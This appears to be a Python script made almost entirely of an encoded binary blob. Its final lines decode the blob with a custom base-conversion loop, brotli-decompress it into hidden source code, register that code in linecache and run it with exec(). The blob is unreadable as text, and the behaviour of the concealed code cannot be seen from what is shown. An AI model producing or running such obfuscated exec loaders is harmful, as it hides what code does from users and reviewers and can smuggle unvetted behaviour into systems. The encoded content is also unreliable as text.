ŁޛęQWRb|n-i8*&d;aDNHd;\$T[oOr7He?h݁(,sV2AoӮ_5hMӌ+ylC@3!3)Wzkdr*h͝o
)zH1(}'\V
*tHqE[m!ONF0H+tlפ(3-ܨxZʏ1'}Շƣq*A#n4v<|̰=G#H?Kl":ɛ:̋^k-bS.##f@sS`aНhS>چVۨA1NHK
Mטjsm+ܣ1qFK]wTRa˙Mׇi,m'VZ3]+H/]b uڅӌ(bnEE6$n\H9ȶgr(#RkSh1iˁ	v.&,&F'N-mlCM_t	ÿ#Hݮ:M5+k.O9e>ٯף#wnoN
T˃o8~j%2TFڠ$6%?KzIy&!^"|udҙ/LÖQb5yHdHʈڽ˨Rו'#dG|N2HT)?*ΗG<,ݭ[-2̸+UBAb4sˌЋ͠=$j+H`φۘCƾ,<a/xΜӪG_~8
ϕ́TϏQ*+MGKޙIsX/;p֬ŨNELUՄC";qIC2q3::#y`J!h\G˛#˜TRyMN-!Wlm/n³8ppIs<v*K;4JˢY5Л:z$~yh zB8$%nŘg̗ҝ=[ǈLv+r5Z?YV<iX+pMjduSq6ԗTrg|giuީ̓'$NXh% VeeEh*܂gБSNEk`$hغ$NeЅ5LEaOB3[p&dEeZ%vD)W2H߲5ԉDs̞xE!6?/u!a'+E*LR@ݞѪ
yDovc-\>k~r{2į3Y)B#WM4pK#M4WUXbU'Bp49vҬL~;C$XȘ1SP\NkiAk*zKo#*f̵^~F|.@޿?>ӍӰ?io2So՝*l\ZlgiMrIt$3aTDG\B1)]_Z@1x$Cr2SBˑ2iu-y	Mp#2BƬx݋F@|9(/y/?Xi_+S̥ִPޠJ[Қʀ{2<lۢ{$S:BMIb$$a3Z6(=]H]'fT.Ts[jIx܆p
Pd>6w?eޑg3ODbO"kȑ߮]ն_Fy-Ѹ2Ґ[aew~D1TUbrs@C({hYeSq=z B3kkwfX6ۅj´E!BElAs_,׌puIэC;f#רAL%ZI'IUplr!2|,\7>܂{i+,؎amEV8B[U2eD$~DXDH2Juse+l;gb+15:mY'My2lzR<N+'	d6tf)pƐʜ*+lսVѱlzO"f_G@Ғ\@%<ѹmYb`؀?9}s\DhsjHzm0yTpUwHnpYV'lgʬ7g	I>,)J "MBM/DD,ֵ 8=K].m;fj/pП5<׊ڤQ L6jD%i5P̥b,tH$-a݉;˺rR8Z&,!"DQ~EkcQn*i]\	:lZ!e@lgJFGʩ.pۢ7oɱ}يdR_rm?|NU%CZVI/Oӗaizt%&XOejM<07x?}<:scЃ/M؛/UD*ܫ%'oǳ#b	|j	ޕ!bEvUгqf(cx(Ѫn@g2cmSwuKuzF nÞ+B_)]o0AӏA<TiFoojưhbnL3.<~lSMhfyF7#ۤ܈À-	.hf0+gƭbtt)΅ٺ]ȖsȨ!ҚI6~(;*Q{޼t2;9=~
[2+hSɊڒ5xN ؗsULkm%?
ϩ-19M Vh`-ԫq5߈LӴq4̕ę9U,ExzK Z\M|HSg7zmIvEųb6eJtl͠T!ڨ[4فjSCCmDߓ?u
´3>nA݉ˇmu[סjϠQuPN݃#@P	H΁hg:ܭ5PcE0D	^Yj:ZɶJ?LO	4Q<g#+W׬#qDٿӘLV%,Oc>BT8?\|~a)AcLK͔3D;qeʶ8)SYԐ?6u*Y=@#x]pN'z(o_4Vti'ܒp4v>?Cfy!gFp@
de iLgL6ݜhNa{Zg$[NA-Kʗ9-k|͢hmy`*RY-26=J%˰.e	}H<e}	[߾́^faE|s(^?!݋[#jSq<׫%++*+'GZ(xZEH'$q?9.kCċ|[joTh97ݭ4AIYaGhL-pdF6Q^km1·Ѫ6܊$Kjўtxa%h}T@k?#<|fÿ[M79v7,C`fjE$>-thշS8-ۈv !+$<9k ~[ߩT:>Lba.Vr,\,77NDSA\IOq75gGGPKL/ŽCѭ"lwՙkə,<qMΌ:s1Gq}iU$H֡U4tbԠTx.pm;Δ{XVn|4W0
y+z~1]0b[>ےdFɔ{+Թz}j#}^NE&[Ґxvj
NU[-A-dl=ɃMΦh Q{5tSuu_&]J)JUHqkLeJPvPqj	ЋBZJFՆKՍb6ĩ7MAS	fn)OIN2A@aܫ'CƵYifx-u\>y٭]7ɤ4tSʱqw2`y>qqWye	;tiOP\7Ư7j*<rWvXԻƊ*жWSHV8]Ü;x,$ZXB#hiscHgZRsݵzjn _u'+gB:$>uj̂|(*t7vJ0snǖ.sbւ:ICiڋv$:&,$>w-O_u!\{X7;ˬ;u+c9]zz	8ewdq.Ӻtrڽ<W`΀ߒƧmI̎"`6/tS\VcǤ 
GQQS^<ث/!hm1UBEWu*_]؝n(
$-eoh*BނXr.UcZY2V!#56A^KRt$ F3QS +Di˦f+UF(9ε3ĮƘqʘ	^Bo2o.ZT9.Ql%dcdZ%0vCBP0}O@8TiE:xߣ}*ԓ2bb˸͑4j\Xh}eʣ*ZAznQ2/kbřSrƜV69PաG0$+7GF\͍dxɢđ98Ԝ֓E/g_EeK}x-`ݻo#xJlkn$j	l:WF0Q$[)?|xJ4TqW'IV [5N}Ǘzuښ{/5eTTD.3Em+bGge7%{YL7a6Vr^|CH\9yB4L92Ɨ!(d֢{Eq9q:Yрݦt2AoNu++!b;#AX~̞b&.GgSה(5f|(Ʀ?AnY#;F.IE
~h9/hI#LM4d.r*e%/$d5cI`E{6^1|m+WA"Hgr@dW^Ю1<XGU̦1!܏<ZEs,]gϜ~Կ!Mzji̓|YUy290vp
$R6_8Gc(@ҁ`#؅7݊#}l|QGJ,k=lj4x4'$}Ͽ{3
e7كB!IE"r* |LɓFϥSY{Reќ#i+bƨӳ!_rŰRe~s&HN[w:+߅nW;H8@ȡ$Z߯-FW-5ПIt,U{0v˛g'0הNd2f,-$fOeLN5W}]'~%-fub+e5O>H	Xk8Ygԏ.p	-"LȍOqĿôߠ3vnMD#Woνp&ŬggBxqV3i\5-z<kΉyǠ@?TkX~^:-ȼuٌnA{DgV947pg7U":r+t[Rʌ:AޓȔC/WٔYKn}TچDoQ1m&]HÐ(z}9MXg۾F+?	:ߺbYd+)cAV@˸f0jj>Aqv<I7Ua{
bJ/~.Nް.3GgPL!ޜ)
ܨSB@ϜGa!szϕ#V^|ٻD{ H<B8%.G&}3.A7O}C<mq0Vx@ͧ_B[hN!9=C`gM_gեǝÒy_#A"u|G}q>i*թ1G&1ͧYdaK3NP% Bc)^ OF|̖K>=L'u% 2wK8\*1T*z6̮'u)ԭo	~Dt-QƬHp )ߧr8&wEPպcbױQYr8	Oq8A%$ڼ801_4lhlNiLDe>΍lɜ^D2f<MP0#FF5eڃ	BU[>gӁx0ã$ÜGZpGmտ6"p8kOC'_\i%f_+>
5]*'N#MPNtʍNw2.'5@K:`g+u3Ӂvry\TbB1REK}1+ku|.I²@$ТdMN~8\Ij>^6q9%_=f=~k,.?/RϐtSϹ:<@<0߽YƓ	&Փgڄ6P<-vXL=L[%U'q(Q)Cncnx-R+XN(B"zO~|tC2̢09%G!RJYqPt
dx_?Ɇ5؂wۮ G6?.#2KC˜>(ՌXE;JU[HBa9DDvJޒQ49A&_,&I_!)3"ֽ>{܆r9¹o	ߨbylguާ>x`[#*[zZƠ`Ъ-2\Vڰ\
a^t[O֚(*;ȱĠy$a9"Oy>N9xޝ6d!fc(EӦI/_g+gr^'vxZUNVqiJXcrvfZ[Ћ|̩KA>ޚՂѠZnWŸJ:u7hm/3*ɯ].D+gqzk%4f	2gо3dܘ#%1Z@_TN^
Ծ]8LˏuTH۞ilc̵<)ie-[=vIDXR<}Xm eѿq,̈5gcߙۧ2w{sQ
G{ßרk%hE%0D}K7`_b!Vےsi%d;e%&irgM)k+r#9~hC;;WgkRZT)ZEozיҗ[4Q\B{5ظË
(Z<RqĀ^ʇCkҪ-,L>%HXg
1n-&k|, (*ŉcr}}3ɜԩl]#ư*o;f.}03W3[dR"w5z`KK+c`M;,VӱwI!~]R1FUֲw~>h+8HYɠ"bJ>]$ҙF͝8?{x2y;;O1ģQr<X՞:g((QnX
\(t[sژǦ߭pdlb/xɴ	~?Ѳ-"|WeRo]bp(&0Ŀ/&$1]2d~7@˘_ظ)!f=Pt4\mwKL_s2Hc+/Y/K*^(RBgLzpڌM%Opͧy.d~{P4MٝŢ<b 'kZ1ě|ܩ%OYZ޳(Vm@j˜X7!{<I>f9ZKq׃vCȋ#&UL.&.($9LLX>p(t]Uߝaʈc/ʻp@l-eǇӺETR`ۀy*_9{Ԫ@LxB͐	k+64}ӳ3N#N4؟JcisioKXʷF`gͩ˝[ebIuhoYRfػ	<vccF/Ea|{$)TtITLQښ1l֫In|/!.1m jiESۊ	TWǪD$jb7i!\\dJ4+:Wy KRP@-
l RM
x߿ܹ8ʛDJn2'<gm:ќeW3-5M/RRHTi=a |HkڍҘY:g|{#Q:jRǋ*"-H$jA*.W5m=@ОV$qeA,{]JT׌ъe|ϗ٩"{{}uUJߐWKOgeǮme=Eden^D=<1N'c'c$P`816ŵac|;aG	.3IcQ
ݍq=ni_%vYonʅ2
:ִHǸ@25fpR*igs7Kp>ӊ*0]~GqNv"a*5ߥI98)`=VSNggʗ-v[QYE_1g׀/Ȃf")H]KZyYfVA3R{:r#[eו\~>b0ÀuW|ٞtYI251H\$9߆?~v>R@`d|jW\i$x{YQ]ygv֎8oGwL0\t(SeW˕`Dc&ao<jkXX͍HVY	[hڤi)uKV6J(_Pީ\Z9~&UΧal;&35F_Ovhcm8lB|t_֚ΌrHb݉HxcӼó&̃L+*k؂(H~SJ\lRM nQD0LG(q"c.s([Kߖ:.9w.'|Iw`X"ZotލVyIj0ZӅx07"~QyrҖ~Ɣ{7)\$v.;cՔa-Ua9-B"YkTΦ}eRWPh/_YzQ'йiXFX"`0Y9Vp"UR#$K]on", *HKcawT_rH׮Z̀(GxȌb=7VL6َp9SvKO3D1GN]38o7f~@ƥH:̆NJQaTR!RRn]ʹwg?8cAؙzDFaeSb'v8+XrFdblґ,̀s)S|*b|}Znص*GpB˕Tdٶ<:J;ƖźRxѨL_F@]uoœiX'^Ed)BC!s&ّS˽2Ic-t
}5tL~wt_E>+yej?ݸdp[iMA`#|ti)F9-zti\$<R7fy$Y}R`3Qo[#*،yt;~zX}7}]kɩάMb9-\@/6PTrȿ	|ap}.9]7Nי):<ڈ5L̵kM8$He1bo3_La%MJ]EF}4-	{,F~/4_ƄG"ɉ}	#3\Ӽ̚
m8Ԫ	r3y>HwSDC<qn:T~Gh)o+W'cH\"KU_~δhYH"j8X6,%niD]ؾPh
%"nns&]Woo>>"(Ai;gl@X54b[xRХ#dM&@lr*ѹ}%;>%C5oOp_Ѿ{hZ;bέ}?άwүV^(+rMsonۋֱf=ݜAG+MAHew;^[)H?p#Yd*2oӲvgsZtڴ9-fĭwocFMr];iܝ*S>}26D0~0߸+d$Zkkܜa2OėcAP´?ܱo;KO*gC2>WJg+ xe@1m{Ѫ7u>G4/_kqq3ݸ<؄e~ȉs,tm*upo)͠09*<bNк:}	\ʠ/ȃ$ItQY
 ԽǴ$R]?Uŵ>Ǉ7lzcsi6*2Hiصsٯ 6۲^Ħ4*;
W٪-SAI5\]BܦM^3@~fVD{T%+.tLt'įrx8_#F Rʫ!OR[Ǒr\{9ڐ1ǃQx16+v\`.F׷OvVΝD@akADqK5گSxd]F-kѹ=V75ߣOq_^8u~
DMjA("?Q8J\b[Tk+xloX2X̉kՔՅ\2NZ9U@J5h΂^I(nܸУ֜|[U`=w~g,<vSG	k9_vH֜pYe׋=|=˧G©2KЩ>3ƹm[	z]0kNi/%9l"9Ǟ+Zxh*1٢a`T}@-{QUD=рư/BY3ZNkz<
Ѣ|	V,̐P^Hh'n%Cȟ	˞DbЇ6.U['d$Nu΢ŋHeRݝ8bOƴ=;Fv|
=*ϵ"#3|zіݑoѭߊ4Yo˸aE.3ˮ3RS7wk#D_`rwwV޽`PƆSKvĪOS718ߓg(U.xfSut|9bCě6i>[_K>ظ7nq
KJ9ۇ}j"'b<F	
Ѭ20Pqy8*sDR(Ę5Jd[^bzWڂpMߛ{ĥr{@'-giקB]RFQM~\̽ µe68PTز,$tHz}vI	B]aqf9h8y`Yfk*ܞ]kqޠP	>!OǾӋ*2o>1ԚQ@Xgi#ҳ}0/LZy'1g;4	*ApY!׿ROjk{|͹aU</B^(0Dњ8_:.[Oc?
^F}HXH
zX#*xI-$gk#חhdjY`[RhP}Bm aYysJ7/n75YϬ0&fjyvkTuK2!yϠ*G
{άeXAee(kaM`5{>ה:Mp7g+.kvyg#A?,ޭ^1^<`le3M:У!	WJX6  c,@(bB	TfՆݝ1J#Jx||wEaWT͸e9ۭ<#]?*/7٬Jl%z6[!UtMɁJz{#N`~r +U
}Y;<k0UN-/BT9/]	w'g=qhTWuXk>˹t:CXOُ%o0Hm40[c\.@vP-qU4Ax$I̒nZRO]>AxFB!*dYk(1;3D K.W=rGxti;	e,yтa'Xshs	ۈ:3wfË% 3ukvR*AA"kA1Ҳ^^s1ɂYF,d|yõ:֖S"S0u-[b@R]<W&ƠSjĞ@$lޭ";)eشlk[Ԉ1(9$ٯ؅\'16`{?Js֛j#wĨO!Ook٦"ZqySۄE%J<@ETIkOkU*8N]Y3e62.&pT|ƀp;ݚ0`[ڱ2%rmۄnk|?D#z|Eu<bƮG>V@_QX)$UD@?V]ʧ%*O'˔R
1G7 
\wUaw$,ܠzlLR&ŏάYSPdc@	Qƚĉ"1)Qv'e'
AFjt:g[%ՙ	5ޕ:YGoX
bQ+#\{a5%h7OBCHՆDګ\?}T>Nw6ٛ<6V84S?4g	K'	fFJ\R8K\_BtqzD Q^`_(4?ŊT֭-03<P^H(.56ԧ91ɇ0\cB+by@9@91&lJBO9~}Ⱦ*	J,ߏ146a> \a:n߸ɯ~/VJ#M,o._ذM؏%AqGў4d0{ۧ.z(eIDC_{1X=|Es:ktӧoq[ouJdS0X@Wf06b2%r fET1]vZ,.\8)*T?%-dO#Dn#zn[	c>`PSP]DƢ\Fq'/s%U$NX1эˇMC]x]nc&XEٕ	Am<AJBaԦ,j'hJ|i;
`"'2l~vg.Nk+ߵDܚ-tjl-|ƍ2i#^W_b$d,`T2#M#PI1gg<*2GۛI 2#J&{ }O>B۷8"\+Z?,/\	eg#9JIXPPQN_hswC3lX^\(a~wAʾ^ie
ֹc($y,Z&B~xjWˏkRG}Z)޹bF9[0)[7"dEĶڜN<d\er1@\`KYHxv7Iܪ"qHH'/1%ݻ8rYXYw43<<K]AtnHr,_
 5Ul>n{)٫Z΀Ε;mBpbjR3BǆZ9&eO(bHM/139@ų`?5?&	.[4bSĦPzJ=g%;֨:ɍѝfVԈ0/	x`5&vJ=Q˞tQÐdܥY3`S/{@d['2[-KSȴJE%f]ЮF!J0UF`)WqP3Иsz:`NoڤWs?c̍%[=(Р36MP$![3w)wH_9ѽNanO_.i<N~=N6FȢ~^n$~>UdHIaȚ[Ëկ=٭AhN6q=gX.qb5˲Ʌ2V^[A\ݛ@lؓxb҄a
5\ؒ֔K+\-ڷR0{9\C,5s=+A!ҏo߂_%ܤV
ϱc=Oc\ta|i.t6tC9+^ly`y	p_,]@L,֖ʰњ +>tFظN3T&d<_'Ƨ\;/X%6kʞ=X!+A{6iy$Ӈf038!<oř3^Ƙ|;99ҟ҂9+%H(gLhg
eخރgA-cUŎxO̯ݓйZ~"dT7JRoY0Ŋ<Y&^ܽ)<BE\Vk];+Q<`+NB&dd9^m}-$<f҆
A8y0R[Wgν0qā.ymڂߋ^%T8O=8m*Z4=<E̎VpF[5+;`pz<h`]	j]dz.EZaLq3+^ӤiD&ӽ+ܞqX.MnQ;ÑЫԶradȨS&E&w+&ҠPQPQ%%a^4EgG"Ed!*ǂ]R @(l&X
191lɵQkP1SC;K_DR5Жq)OZy}1@KDF]:[Ԁحm| ^#QoyllWү|05ݑ5C$Oܭfami\d(incVzx[pj޹iG:N=QLذ)E4>2\-ւ
wc-"k["tCB.uJ3UmОԳvd*J?.DNMnĿ	;_gS{a$B\9D%+3)!8ŪSFȡ j6FTwyucIG,&i^Ϯ*fCVmvG?4Jg}Gsm)ƃ")̕$ۛ`1UTyrSuޕ?c
ח#wJd۴tVүbq1y?1#<!W(\}2MY2%iq	D9/>hY
>=_`г~
dY|]֋nFM;}>qzg)UP4_E3s<ZײG^`bk,.&?xa=h(EI8K
-* /ҧ6R/V7ֆ־Un'z_H;5IgY%_2ГoOXBc{wN9=hqr3]lٙiܖߊ]0#YwÄB;\FJU$ΗԴֲX5cWDT[͐͜iV(WcX5+B8HuųR!y9إݢ\Trކцq*J!nњ8j_Ėa(g'>#cQɯ'ĝ܁79D0I6gyvS\An3s<o!2V7TOeoYqCiӖ8ŎO	gE8$el*&]m#JtȒm(LndSoۢ"\='C33:

*JZJ5/͗`;bCGKKlö_vi,2qÿL$
8<П٦4\n'ɳzTgi7fHG:O(,HI61oРaqi7\y&e$X@tKA<7mF&N#b+hڃ|-Eq[SZXɵúFY
_6.Ԧ*Q;Q4kCiVߊW!dՃotz=HP5f-wNucw`XcҐu}4GG8Ǟ#Cjz;8yϜ88^WF|g-Ea_,hpSxzAL!ՓDҜ>J[ȆAʜNSCa7nԊ
DW+^x|U\ÊfHJ*kD۠!|،7>
*\j̩}YǬ_HƓ-سy֘3$nQ?{kFsWa^G0MLڅaʆDOoz_ނ@d܇Фʨm!Lٖ-CׇNDk$:Qփ)Y<;ژv
]7	%Tb?}aX̯ɦ=u&j!pl >;gDgH{	~G :o$gǮJ?Z3k.EPC%۸?xoi$Ђ<_
Xӿ[Aתma/|7!ӧBoÓ؂vQ?{A^| L؞֝DN#9Z{و ӏV3y_xOn;/[(5ǵhlYȘ[9:$չs
=@%&''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25188)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
